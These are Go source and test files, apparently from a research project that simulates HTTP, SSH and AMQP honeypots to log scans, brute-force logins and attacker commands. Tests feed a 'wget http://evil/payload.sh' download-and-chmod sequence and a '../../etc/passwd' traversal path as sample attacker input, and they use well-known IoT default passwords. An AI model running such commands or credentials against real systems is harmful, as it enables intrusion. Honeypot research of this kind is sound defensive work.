func (t *serverStepper) feedLine(c *netsim.ServerConv) (string, bool) {
	in := c.Input()
	for i, b := range in {
		if b == '\n' {
			c.Consume(i + 1)
			line := string(t.line)
			t.line = t.line[:0]
			return line, true
		}
		t.line = append(t.line, b)
	}
	c.Consume(len(in))
	return "", false
}

func (s *Server) route(req *Request) *Response {
	if h, ok := s.cfg.Routes[req.Path]; ok {
		return h(req)
	}
	return &Response{Status: 404, Body: []byte("<html><body><h1>404 Not Found</h1></body></html>")}
}

// ParseForm decodes an application/x-www-form-urlencoded body (sufficient
// subset: & separated key=value with %XX and + decoding).
func ParseForm(body string) map[string]string {
	out := make(map[string]string)
	for _, pair := range strings.Split(body, "&") {
		eq := strings.IndexByte(pair, '=')
		if eq < 0 {
			continue
		}
		out[unescape(pair[:eq])] = unescape(pair[eq+1:])
	}
	return out
}

func unescape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '+':
			b.WriteByte(' ')
		case s[i] == '%' && i+2 < len(s):
			hi, ok1 := unhex(s[i+1])
			lo, ok2 := unhex(s[i+2])
			if ok1 && ok2 {
				b.WriteByte(hi<<4 | lo)
				i += 2
			} else {
				b.WriteByte(s[i])
			}
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func unhex(c byte) (byte, bool) {
	switch {
	case '0' <= c && c <= '9':
		return c - '0', true
	case 'a' <= c && c <= 'f':
		return c - 'a' + 10, true
	case 'A' <= c && c <= 'F':
		return c - 'A' + 10, true
	}
	return 0, false
}

// Get performs a GET over an established connection and returns the response.
func Get(conn net.Conn, path string, timeout time.Duration) (*Response, error) {
	return Do(conn, "GET", path, nil, timeout)
}

// Post performs a POST with a form body.
func Post(conn net.Conn, path string, form map[string]string, timeout time.Duration) (*Response, error) {
	pairs := make([]string, 0, len(form))
	keys := make([]string, 0, len(form))
	for k := range form {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		pairs = append(pairs, k+"="+form[k])
	}
	return Do(conn, "POST", path, []byte(strings.Join(pairs, "&")), timeout)
}

// Do performs one HTTP exchange.
func Do(conn net.Conn, method, path string, body []byte, timeout time.Duration) (*Response, error) {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	scratch := netsim.GetScratch()
	b := (*scratch)[:0]
	b = append(b, method...)
	b = append(b, ' ')
	b = append(b, path...)
	b = append(b, " HTTP/1.1\r\nHost: target\r\nContent-Length: "...)
	b = strconv.AppendInt(b, int64(len(body)), 10)
	b = append(b, "\r\n\r\n"...)
	_, err := conn.Write(b)
	*scratch = b
	netsim.PutScratch(scratch)
	if err != nil {
		return nil, err
	}
	if len(body) > 0 {
		if _, err := conn.Write(body); err != nil {
			return nil, err
		}
	}
	br := netsim.GetReader(conn)
	resp, err := ReadResponse(br)
	netsim.PutReader(br)
	return resp, err
}

// readLine returns one '\n'-terminated chunk as a transient slice into r's
// buffer, valid only until the next read. Lines longer than the buffer fall
// back to an allocated copy, preserving ReadString semantics.
func readLine(r *bufio.Reader) ([]byte, error) {
	line, err := r.ReadSlice('\n')
	if err == bufio.ErrBufferFull {
		buf := append([]byte(nil), line...)
		for err == bufio.ErrBufferFull {
			line, err = r.ReadSlice('\n')
			buf = append(buf, line...)
		}
		return buf, err
	}
	return line, err
}

// headerKeyIntern short-circuits the lowercase conversion for the header
// names the simulated servers actually emit, avoiding a per-header
// allocation on the client parse path.
var headerKeyIntern = map[string]string{
	"Server": "server", "server": "server",
	"Content-Length": "content-length", "content-length": "content-length",
	"Content-Type": "content-type", "content-type": "content-type",
	"Connection": "connection", "connection": "connection",
	"Location": "location", "location": "location",
	"WWW-Authenticate": "www-authenticate", "www-authenticate": "www-authenticate",
}

// canonHeaderKey lowercases a trimmed header name exactly as
// strings.ToLower(strings.TrimSpace(...)) did, interning common names.
func canonHeaderKey(b []byte) string {
	b = bytes.TrimSpace(b)
	if k, ok := headerKeyIntern[string(b)]; ok {
		return k
	}
	return strings.ToLower(string(b))
}

// ReadResponse parses one response.
func ReadResponse(r *bufio.Reader) (*Response, error) {
	line, err := readLine(r)
	if err != nil {
		return nil, err
	}
	fields := bytes.Fields(bytes.TrimSpace(line))
	if len(fields) < 2 || !bytes.HasPrefix(fields[0], []byte("HTTP/")) {
		return nil, fmt.Errorf("http: malformed status line %q", bytes.TrimSpace(line))
	}
	status, err := strconv.Atoi(string(fields[1]))
	if err != nil {
		return nil, err
	}
	resp := &Response{Status: status, Headers: make(map[string]string)}
	length := 0
	for {
		h, err := readLine(r)
		if err != nil {
			return nil, err
		}
		h = bytes.TrimRight(h, "\r\n")
		if len(h) == 0 {
			break
		}
		colon := bytes.IndexByte(h, ':')
		if colon < 0 {
			continue
		}
		key := canonHeaderKey(h[:colon])
		val := string(bytes.TrimSpace(h[colon+1:]))
		resp.Headers[key] = val
		if key == "content-length" {
			if length, err = strconv.Atoi(val); err != nil || length < 0 || length > maxBodySize {
				return nil, fmt.Errorf("http: bad content-length %q", val)
			}
		}
	}
	resp.Body = make([]byte, length)
	if _, err := io.ReadFull(r, resp.Body); err != nil {
		return nil, err
	}
	return resp, nil
}

// StaticPage builds a handler serving fixed HTML.
func StaticPage(html string) Handler {
	return func(*Request) *Response {
		return &Response{Status: 200,
			Headers: map[string]string{"Content-Type": "text/html"},
			Body:    []byte(html)}
	}
}

// LoginPage builds a device login form handler plus its POST target, which
// always rejects (honeypot behaviour) unless accept returns true.
func LoginPage(title string, accept func(user, pass string) bool) (get Handler, post Handler) {
	page := "<html><head><title>" + title + "</title></head><body>" +
		`<form method="POST"><input name="username"/><input type="password" name="password"/></form></body></html>`
	get = StaticPage(page)
	post = func(req *Request) *Response {
		form := ParseForm(string(req.Body))
		if accept != nil && accept(form["username"], form["password"]) {
			return &Response{Status: 302, Headers: map[string]string{"Location": "/index.html"}}
		}
		return &Response{Status: 401, Body: []byte("<html><body>Invalid credentials</body></html>")}
	}
	return get, post
}
