package http

import (
	"bufio"
	"bytes"
	"context"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"openhire/internal/netsim"
)

func TestParseForm(t *testing.T) {
	form := ParseForm("username=admin&password=p%40ss+word&x")
	if form["username"] != "admin" {
		t.Fatalf("username %q", form["username"])
	}
	if form["password"] != "p@ss word" {
		t.Fatalf("password %q", form["password"])
	}
	if _, ok := form["x"]; ok {
		t.Fatal("valueless pair kept")
	}
}

func TestParseFormFuzzNoPanic(t *testing.T) {
	if err := quick.Check(func(s string) bool {
		_ = ParseForm(s)
		return true
	}, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestRequestRoundTrip(t *testing.T) {
	raw := "POST /login HTTP/1.1\r\nHost: cam\r\nContent-Length: 9\r\n\r\nuser=a&b=c"
	req, err := ReadRequest(bufio.NewReader(strings.NewReader(raw)))
	if err != nil {
		t.Fatal(err)
	}
	if req.Method != "POST" || req.Path != "/login" || string(req.Body) != "user=a&b=" {
		t.Fatalf("req %+v body=%q", req, req.Body)
	}
}

func TestReadRequestErrors(t *testing.T) {
	for _, raw := range []string{
		"GARBAGE\r\n\r\n",
		"GET /\r\n\r\n", // missing proto
		"GET / HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
		"GET / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n",
	} {
		if _, err := ReadRequest(bufio.NewReader(strings.NewReader(raw))); err == nil {
			t.Errorf("parsed %q", raw)
		}
	}
}

func TestResponseRoundTrip(t *testing.T) {
	resp := &Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
		Body: []byte("<html/>")}
	var buf bytes.Buffer
	if err := resp.Write(&buf, "GoAhead-Webs"); err != nil {
		t.Fatal(err)
	}
	got, err := ReadResponse(bufio.NewReader(&buf))
	if err != nil {
		t.Fatal(err)
	}
	if got.Status != 200 || string(got.Body) != "<html/>" {
		t.Fatalf("got %+v", got)
	}
	if got.Headers["server"] != "GoAhead-Webs" {
		t.Fatalf("server header %q", got.Headers["server"])
	}
}

func startServer(t *testing.T, cfg ServerConfig) *netsim.ServiceConn {
	t.Helper()
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.91"), Port: 45000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.6"), Port: 80},
		time.Now(),
	)
	srv := NewServer(cfg)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	t.Cleanup(func() { client.Close() })
	return client
}

func deviceRoutes() map[string]Handler {
	get, post := LoginPage("NETGEAR Router", func(u, p string) bool { return false })
	return map[string]Handler{
		"/":        StaticPage("<html><title>NETGEAR Router</title></html>"),
		"/login":   get,
		"/doLogin": post,
	}
}

func TestServeStaticAndLogin(t *testing.T) {
	var events []Event
	client := startServer(t, ServerConfig{
		ServerHeader: "mini_httpd/1.30",
		Routes:       deviceRoutes(),
		LoginPath:    "/doLogin",
		OnEvent:      func(ev Event) { events = append(events, ev) },
	})
	resp, err := Get(client, "/", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 200 || !strings.Contains(string(resp.Body), "NETGEAR") {
		t.Fatalf("resp %d %q", resp.Status, resp.Body)
	}
	resp, err = Post(client, "/doLogin", map[string]string{"username": "admin", "password": "admin"}, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 401 {
		t.Fatalf("login status %d", resp.Status)
	}
	found := false
	for _, ev := range events {
		if ev.Username == "admin" && ev.Password == "admin" && ev.Path == "/doLogin" {
			found = true
		}
	}
	if !found {
		t.Fatalf("credential event missing: %+v", events)
	}
}

func TestServe404(t *testing.T) {
	client := startServer(t, ServerConfig{Routes: deviceRoutes()})
	resp, err := Get(client, "/cgi-bin/../../etc/passwd", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 404 {
		t.Fatalf("status %d", resp.Status)
	}
}

func TestServeKeepAliveMultipleRequests(t *testing.T) {
	client := startServer(t, ServerConfig{Routes: deviceRoutes()})
	for i := 0; i < 5; i++ {
		resp, err := Get(client, "/", time.Second)
		if err != nil || resp.Status != 200 {
			t.Fatalf("request %d: %v %v", i, resp, err)
		}
	}
}

func TestServeFloodGuard(t *testing.T) {
	client := startServer(t, ServerConfig{Routes: deviceRoutes(), MaxRequestsPerConn: 3})
	var failed bool
	for i := 0; i < 10; i++ {
		if _, err := Get(client, "/", 300*time.Millisecond); err != nil {
			failed = true
			break
		}
	}
	if !failed {
		t.Fatal("flood never hit the per-conn cap")
	}
}

func TestLoginPageAccept(t *testing.T) {
	_, post := LoginPage("X", func(u, p string) bool { return u == "admin" && p == "ok" })
	resp := post(&Request{Method: "POST", Body: []byte("username=admin&password=ok")})
	if resp.Status != 302 {
		t.Fatalf("status %d", resp.Status)
	}
}
