package ssh

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
)

func startServer(t *testing.T, cfg Config) (*netsim.ServiceConn, <-chan Event) {
	t.Helper()
	events := make(chan Event, 1)
	prev := cfg.OnEvent
	cfg.OnEvent = func(ev Event) {
		if prev != nil {
			prev(ev)
		}
		events <- ev
	}
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.90"), Port: 44000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.5"), Port: 22},
		time.Now(),
	)
	srv := NewServer(cfg)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	t.Cleanup(func() { client.Close() })
	return client, events
}

func TestGrabBanner(t *testing.T) {
	client, _ := startServer(t, Config{Version: "SSH-2.0-OpenSSH_5.1p1 Debian-5"})
	banner, err := GrabBanner(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if banner != "SSH-2.0-OpenSSH_5.1p1 Debian-5" {
		t.Fatalf("banner %q", banner)
	}
}

func TestLoginAcceptAll(t *testing.T) {
	client, events := startServer(t, Config{AcceptAll: true})
	if _, err := GrabBanner(client, time.Second); err != nil {
		t.Fatal(err)
	}
	ok, err := Login(client, "SSH-2.0-Go", "root", "xc3511", time.Second)
	if err != nil || !ok {
		t.Fatalf("Login = %v, %v", ok, err)
	}
	client.Close()
	select {
	case ev := <-events:
		if !ev.Success || len(ev.Attempts) != 1 || ev.Attempts[0] != (Credential{"root", "xc3511"}) {
			t.Fatalf("event %+v", ev)
		}
		if ev.ClientVersion != "SSH-2.0-Go" {
			t.Fatalf("client version %q", ev.ClientVersion)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}

func TestLoginRejectedAttemptsLogged(t *testing.T) {
	client, events := startServer(t, Config{MaxAttempts: 3})
	if _, err := GrabBanner(client, time.Second); err != nil {
		t.Fatal(err)
	}
	ok, err := Login(client, "SSH-2.0-bot", "admin", "admin", time.Second)
	if err != nil || ok {
		t.Fatalf("Login = %v, %v", ok, err)
	}
	for _, cred := range []Credential{{"root", "root"}, {"user", "user"}} {
		if ok, _ := Attempt(client, cred.Username, cred.Password, time.Second); ok {
			t.Fatal("attempt accepted")
		}
	}
	select {
	case ev := <-events:
		if ev.Success || len(ev.Attempts) != 3 {
			t.Fatalf("event %+v", ev)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("server did not close after max attempts")
	}
}

func TestCredentialMap(t *testing.T) {
	client, _ := startServer(t, Config{Credentials: map[string]string{"pi": "raspberry"}})
	if _, err := GrabBanner(client, time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Login(client, "SSH-2.0-x", "pi", "wrong", time.Second); ok {
		t.Fatal("wrong password accepted")
	}
	if ok, _ := Attempt(client, "pi", "raspberry", time.Second); !ok {
		t.Fatal("correct password rejected")
	}
}

func TestCommandsLogged(t *testing.T) {
	client, events := startServer(t, Config{AcceptAll: true})
	if _, err := GrabBanner(client, time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Login(client, "SSH-2.0-mirai", "admin", "admin", time.Second); !ok {
		t.Fatal("login rejected")
	}
	for _, cmd := range []string{"wget http://evil/payload.sh", "chmod +x payload.sh", "exit"} {
		if _, err := client.Write([]byte(cmd + "\n")); err != nil {
			t.Fatal(err)
		}
	}
	select {
	case ev := <-events:
		if len(ev.Commands) != 3 || !strings.HasPrefix(ev.Commands[0], "wget ") {
			t.Fatalf("commands %v", ev.Commands)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}

func TestNonSSHClientGetsBannerOnly(t *testing.T) {
	client, events := startServer(t, Config{})
	if _, err := client.Write([]byte("GET / HTTP/1.1\r\n")); err != nil {
		t.Fatal(err)
	}
	select {
	case ev := <-events:
		if ev.Success || len(ev.Attempts) != 0 {
			t.Fatalf("event %+v", ev)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("session did not end")
	}
}
