// Package ssh implements the SSH protocol at the interaction level the
// study's honeypots need: the RFC 4253 identification-string exchange
// (the "SSH-2.0-..." banner every scanner records) and a credential-attempt
// phase for logging brute-force attacks.
//
// Substitution note (see DESIGN.md): real SSH requires a full key exchange
// and encrypted transport, which none of the paper's analyses depend on —
// Cowrie-class honeypots log (username, password, source) tuples and scan
// engines record the version banner. We therefore keep the identification
// exchange wire-accurate and replace the encrypted auth conversation with a
// plaintext "user password\n" exchange. Every observable the paper uses
// (banner text, credential dictionary, attempt counts, Table 12) is
// preserved.
package ssh

import (
	"bufio"
	"context"
	"net"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// Port is the standard SSH port.
const Port uint16 = 22

// Event logs one SSH session.
type Event struct {
	Time          time.Time
	Remote        netsim.IPv4
	ClientVersion string
	Attempts      []Credential
	Success       bool
	Commands      []string
}

// Credential is one username/password attempt.
type Credential struct {
	Username string
	Password string
}

// Config describes an SSH endpoint.
type Config struct {
	// Version is the identification string sent to clients, without the
	// trailing CRLF ("SSH-2.0-OpenSSH_7.4p1 Debian-10+deb9u7"). Kippo's
	// fingerprint "SSH-2.0-OpenSSH_5.1p1 Debian-5" (Table 6) lives here.
	Version string
	// Credentials maps username → password; empty rejects everything
	// (honeypots typically accept nothing but log all attempts, or accept
	// everything — see AcceptAll).
	Credentials map[string]string
	// AcceptAll admits any credential pair (Cowrie's default pot behaviour).
	AcceptAll bool
	// MaxAttempts closes the session after this many failures (0 = 6).
	MaxAttempts int
	// OnEvent receives the session record at close.
	OnEvent func(Event)
}

// Server implements netsim.StreamHandler.
type Server struct {
	cfg Config
}

// NewServer builds a Server.
func NewServer(cfg Config) *Server {
	if cfg.Version == "" {
		cfg.Version = "SSH-2.0-OpenSSH_7.4"
	}
	if cfg.MaxAttempts == 0 {
		cfg.MaxAttempts = 6
	}
	return &Server{cfg: cfg}
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	ev := Event{Time: conn.DialTime, Remote: remote}
	defer func() {
		if s.cfg.OnEvent != nil {
			s.cfg.OnEvent(ev)
		}
	}()
	_ = conn.SetDeadline(time.Now().Add(15 * time.Second))

	if _, err := conn.Write([]byte(s.cfg.Version + "\r\n")); err != nil {
		return
	}
	r := bufio.NewReader(conn)
	line, err := r.ReadString('\n')
	if err != nil {
		return
	}
	ev.ClientVersion = strings.TrimSpace(line)
	if !strings.HasPrefix(ev.ClientVersion, "SSH-") {
		return // not an SSH client; banner grab ends here
	}

	for len(ev.Attempts) < s.cfg.MaxAttempts {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		fields := strings.SplitN(strings.TrimSpace(line), " ", 2)
		cred := Credential{Username: fields[0]}
		if len(fields) == 2 {
			cred.Password = fields[1]
		}
		ev.Attempts = append(ev.Attempts, cred)
		ok := s.cfg.AcceptAll
		if want, exists := s.cfg.Credentials[cred.Username]; exists && want == cred.Password {
			ok = true
		}
		if !ok {
			if _, err := conn.Write([]byte("denied\n")); err != nil {
				return
			}
			continue
		}
		ev.Success = true
		if _, err := conn.Write([]byte("granted\n")); err != nil {
			return
		}
		// Shell phase: log commands until exit.
		for len(ev.Commands) < 64 {
			cl, err := r.ReadString('\n')
			if err != nil {
				return
			}
			cmd := strings.TrimSpace(cl)
			if cmd == "" {
				continue
			}
			ev.Commands = append(ev.Commands, cmd)
			if cmd == "exit" {
				return
			}
			if _, err := conn.Write([]byte("$ \n")); err != nil {
				return
			}
		}
		return
	}
}

// GrabBanner reads the server identification string — the scan probe.
func GrabBanner(conn net.Conn, timeout time.Duration) (string, error) {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetReadDeadline(time.Now().Add(timeout))
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil && line == "" {
		return "", err
	}
	return strings.TrimSpace(line), nil
}

// Login performs the simplified credential exchange after GrabBanner on the
// same connection: send our version, then the attempt.
func Login(conn net.Conn, clientVersion, user, pass string, timeout time.Duration) (bool, error) {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write([]byte(clientVersion + "\r\n")); err != nil {
		return false, err
	}
	return Attempt(conn, user, pass, timeout)
}

// Attempt submits one more credential pair on an open session.
func Attempt(conn net.Conn, user, pass string, timeout time.Duration) (bool, error) {
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write([]byte(user + " " + pass + "\n")); err != nil {
		return false, err
	}
	resp, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		return false, err
	}
	return strings.TrimSpace(resp) == "granted", nil
}
