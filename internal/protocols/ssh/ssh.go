// Package ssh implements the SSH protocol at the interaction level the
// study's honeypots need: the RFC 4253 identification-string exchange
// (the "SSH-2.0-..." banner every scanner records) and a credential-attempt
// phase for logging brute-force attacks.
//
// Substitution note (see DESIGN.md): real SSH requires a full key exchange
// and encrypted transport, which none of the paper's analyses depend on —
// Cowrie-class honeypots log (username, password, source) tuples and scan
// engines record the version banner. We therefore keep the identification
// exchange wire-accurate and replace the encrypted auth conversation with a
// plaintext "user password\n" exchange. Every observable the paper uses
// (banner text, credential dictionary, attempt counts, Table 12) is
// preserved.
package ssh

import (
	"context"
	"net"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// Port is the standard SSH port.
const Port uint16 = 22

// Event logs one SSH session.
type Event struct {
	Time          time.Time
	Remote        netsim.IPv4
	ClientVersion string
	Attempts      []Credential
	Success       bool
	Commands      []string
}

// Credential is one username/password attempt.
type Credential struct {
	Username string
	Password string
}

// Config describes an SSH endpoint.
type Config struct {
	// Version is the identification string sent to clients, without the
	// trailing CRLF ("SSH-2.0-OpenSSH_7.4p1 Debian-10+deb9u7"). Kippo's
	// fingerprint "SSH-2.0-OpenSSH_5.1p1 Debian-5" (Table 6) lives here.
	Version string
	// Credentials maps username → password; empty rejects everything
	// (honeypots typically accept nothing but log all attempts, or accept
	// everything — see AcceptAll).
	Credentials map[string]string
	// AcceptAll admits any credential pair (Cowrie's default pot behaviour).
	AcceptAll bool
	// MaxAttempts closes the session after this many failures (0 = 6).
	MaxAttempts int
	// OnEvent receives the session record at close.
	OnEvent func(Event)
}

// Server implements netsim.StreamHandler.
type Server struct {
	cfg Config
}

// NewServer builds a Server.
func NewServer(cfg Config) *Server {
	if cfg.Version == "" {
		cfg.Version = "SSH-2.0-OpenSSH_7.4"
	}
	if cfg.MaxAttempts == 0 {
		cfg.MaxAttempts = 6
	}
	return &Server{cfg: cfg}
}

// Serve implements netsim.StreamHandler by running the same state machine
// NewStepper hands to the discrete-event engine over blocking reads.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	_ = conn.SetDeadline(time.Now().Add(15 * time.Second))
	netsim.ServeStepper(ctx, conn, s.NewStepper())
}

// NewStepper implements netsim.StepProvider: a fresh per-session state
// machine for the conversation engine.
func (s *Server) NewStepper() netsim.Stepper { return &serverStepper{s: s} }

// serverStepper session states.
const (
	stVersion uint8 = iota // awaiting the client identification string
	stAuth                 // awaiting a "user password" line
	stShell                // awaiting a shell command line
)

// serverStepper is one SSH session as a resumable state machine. Writes land
// at exactly the points the classic blocking loop wrote ("denied\n",
// "granted\n", "$ \n"), so faulted transports cut sessions at identical
// byte offsets.
type serverStepper struct {
	s       *Server
	ev      Event
	line    []byte // partial input line
	state   uint8
	emitted bool
}

// Step implements netsim.Stepper.
func (t *serverStepper) Step(c *netsim.ServerConv, ev netsim.ConvEvent) netsim.StepVerdict {
	switch ev {
	case netsim.EvOpen:
		t.ev.Time = c.DialTime()
		if ip, ok := c.RemoteIP(); ok {
			t.ev.Remote = ip
		}
		if _, err := c.Write([]byte(t.s.cfg.Version + "\r\n")); err != nil {
			return t.finish()
		}
		return netsim.StepMore
	case netsim.EvData:
		for {
			line, ok := t.feedLine(c)
			if !ok {
				return netsim.StepMore
			}
			if t.handleLine(c, line) == netsim.StepDone {
				return netsim.StepDone
			}
		}
	default:
		// EvEOF / EvBroken: a blocking read would have errored out here.
		return t.finish()
	}
}

// handleLine advances the session by one completed input line.
func (t *serverStepper) handleLine(c *netsim.ServerConv, line string) netsim.StepVerdict {
	s := t.s
	switch t.state {
	case stVersion:
		t.ev.ClientVersion = strings.TrimSpace(line)
		if !strings.HasPrefix(t.ev.ClientVersion, "SSH-") {
			return t.finish() // not an SSH client; banner grab ends here
		}
		if len(t.ev.Attempts) >= s.cfg.MaxAttempts {
			return t.finish()
		}
		t.state = stAuth

	case stAuth:
		fields := strings.SplitN(strings.TrimSpace(line), " ", 2)
		cred := Credential{Username: fields[0]}
		if len(fields) == 2 {
			cred.Password = fields[1]
		}
		t.ev.Attempts = append(t.ev.Attempts, cred)
		ok := s.cfg.AcceptAll
		if want, exists := s.cfg.Credentials[cred.Username]; exists && want == cred.Password {
			ok = true
		}
		if !ok {
			if _, err := c.Write([]byte("denied\n")); err != nil {
				return t.finish()
			}
			if len(t.ev.Attempts) >= s.cfg.MaxAttempts {
				return t.finish()
			}
			break
		}
		t.ev.Success = true
		if _, err := c.Write([]byte("granted\n")); err != nil {
			return t.finish()
		}
		t.state = stShell

	case stShell:
		// Shell phase: log commands until exit.
		cmd := strings.TrimSpace(line)
		if cmd == "" {
			break
		}
		t.ev.Commands = append(t.ev.Commands, cmd)
		if cmd == "exit" {
			return t.finish()
		}
		if _, err := c.Write([]byte("$ \n")); err != nil {
			return t.finish()
		}
		if len(t.ev.Commands) >= 64 {
			return t.finish()
		}
	}
	return netsim.StepMore
}

// feedLine consumes input toward one '\n'-terminated line, carrying partial
// lines across batches. ok is false when input ran out mid-line.
func (t *serverStepper) feedLine(c *netsim.ServerConv) (string, bool) {
	in := c.Input()
	for i, b := range in {
		if b == '\n' {
			c.Consume(i + 1)
			line := string(t.line)
			t.line = t.line[:0]
			return line, true
		}
		t.line = append(t.line, b)
	}
	c.Consume(len(in))
	return "", false
}

// finish emits the session event exactly once and ends the conversation.
func (t *serverStepper) finish() netsim.StepVerdict {
	if !t.emitted {
		t.emitted = true
		if t.s.cfg.OnEvent != nil {
			t.s.cfg.OnEvent(t.ev)
		}
	}
	return netsim.StepDone
}

// GrabBanner reads the server identification string — the scan probe.
func GrabBanner(conn net.Conn, timeout time.Duration) (string, error) {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetReadDeadline(time.Now().Add(timeout))
	br := netsim.GetReader(conn)
	line, err := br.ReadString('\n')
	netsim.PutReader(br)
	if err != nil && line == "" {
		return "", err
	}
	return strings.TrimSpace(line), nil
}

// Login performs the simplified credential exchange after GrabBanner on the
// same connection: send our version, then the attempt.
func Login(conn net.Conn, clientVersion, user, pass string, timeout time.Duration) (bool, error) {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write([]byte(clientVersion + "\r\n")); err != nil {
		return false, err
	}
	return Attempt(conn, user, pass, timeout)
}

// Attempt submits one more credential pair on an open session.
func Attempt(conn net.Conn, user, pass string, timeout time.Duration) (bool, error) {
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write([]byte(user + " " + pass + "\n")); err != nil {
		return false, err
	}
	br := netsim.GetReader(conn)
	resp, err := br.ReadString('\n')
	netsim.PutReader(br)
	if err != nil {
		return false, err
	}
	return strings.TrimSpace(resp) == "granted", nil
}
