package amqp

import (
	"context"
	"testing"
	"testing/quick"
	"time"

	"openhire/internal/netsim"
)

func TestFrameRoundTrip(t *testing.T) {
	f := &Frame{Type: FrameMethod, Channel: 3, Payload: []byte("payload")}
	got, rest, err := ParseFrame(f.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if len(rest) != 0 {
		t.Fatalf("rest = %d bytes", len(rest))
	}
	if got.Type != FrameMethod || got.Channel != 3 || string(got.Payload) != "payload" {
		t.Fatalf("got %+v", got)
	}
}

func TestParseFrameErrors(t *testing.T) {
	// Truncated, missing end octet, oversized.
	if _, _, err := ParseFrame([]byte{1, 0, 0}); err == nil {
		t.Fatal("truncated frame parsed")
	}
	raw := (&Frame{Type: 1, Payload: []byte("x")}).Marshal()
	raw[len(raw)-1] = 0 // corrupt end octet
	if _, _, err := ParseFrame(raw); err == nil {
		t.Fatal("corrupt end octet parsed")
	}
	big := []byte{1, 0, 0, 0xff, 0xff, 0xff, 0xff}
	if _, _, err := ParseFrame(big); err != ErrFrameTooBig {
		t.Fatal("oversized frame not rejected")
	}
}

func TestStartFrameRoundTrip(t *testing.T) {
	props := ServerProperties{
		Product: "RabbitMQ", Version: "2.7.1", Platform: "Erlang/R14B04",
		Mechanisms: []string{"PLAIN", "AMQPLAIN"},
	}
	got, err := ParseStart(StartFrame(props))
	if err != nil {
		t.Fatal(err)
	}
	if got.Product != "RabbitMQ" || got.Version != "2.7.1" {
		t.Fatalf("got %+v", got)
	}
	if len(got.Mechanisms) != 2 || got.Mechanisms[0] != "PLAIN" {
		t.Fatalf("mechanisms %v", got.Mechanisms)
	}
	if len(got.Locales) != 1 || got.Locales[0] != "en_US" {
		t.Fatalf("locales %v", got.Locales)
	}
}

func TestStartFramePropertyRoundTrip(t *testing.T) {
	if err := quick.Check(func(product, version string) bool {
		if len(product) > 200 || len(version) > 200 {
			return true
		}
		got, err := ParseStart(StartFrame(ServerProperties{
			Product: product, Version: version, Mechanisms: []string{"PLAIN"},
		}))
		return err == nil && got.Product == product && got.Version == version
	}, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestParseStartRejectsOtherFrames(t *testing.T) {
	if _, err := ParseStart(&Frame{Type: FrameHeartbeat}); err == nil {
		t.Fatal("heartbeat parsed as start")
	}
	if _, err := ParseStart(&Frame{Type: FrameMethod, Payload: []byte{0, 10, 0, 11, 0, 9}}); err == nil {
		t.Fatal("start-ok parsed as start")
	}
}

func TestKnownVulnerableVersions(t *testing.T) {
	if !KnownVulnerableVersions["2.7.1"] || !KnownVulnerableVersions["2.8.4"] {
		t.Fatal("Table 2 versions missing")
	}
	if KnownVulnerableVersions["3.8.9"] {
		t.Fatal("modern version flagged")
	}
}

func startBroker(t *testing.T, cfg ServerConfig) (*netsim.ServiceConn, func()) {
	t.Helper()
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.70"), Port: 42000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.3"), Port: 5672},
		time.Now(),
	)
	srv := NewServer(cfg)
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	return client, func() { client.Close(); <-done }
}

func TestProbeReadsServerProperties(t *testing.T) {
	client, closeFn := startBroker(t, ServerConfig{
		Properties: ServerProperties{
			Product: "RabbitMQ", Version: "2.8.4",
			Mechanisms: []string{"PLAIN", "ANONYMOUS"},
		},
	})
	defer closeFn()
